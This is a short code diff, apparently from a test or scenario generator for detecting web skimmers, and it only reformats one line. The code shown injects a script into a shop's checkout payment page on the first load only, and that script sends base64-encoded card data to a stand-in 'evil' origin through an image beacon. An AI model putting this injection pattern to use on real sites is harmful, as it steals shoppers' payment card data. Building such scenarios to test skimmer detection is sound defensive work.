@@ -8,7 +8,9 @@ export default skimmer({
   covers: ['hard: cloaking', 'trigger: once', 'trigger: server gate'],
   base: 'direct',
   install: (site) => {
-    const code = onPay(js`new Image().src = '${site.origins.evil}/fv.gif?d=' + encodeURIComponent(btoa(card()));`);
+    const code = onPay(
+      js`new Image().src = '${site.origins.evil}/fv.gif?d=' + encodeURIComponent(btoa(card()));`,
+    );
     let served = 0;
     site.alter('shop/checkout/payment', (html) =>
       served++ > 0 ? html : html.replace('</body>', () => `<script>${code}</script></body>`),
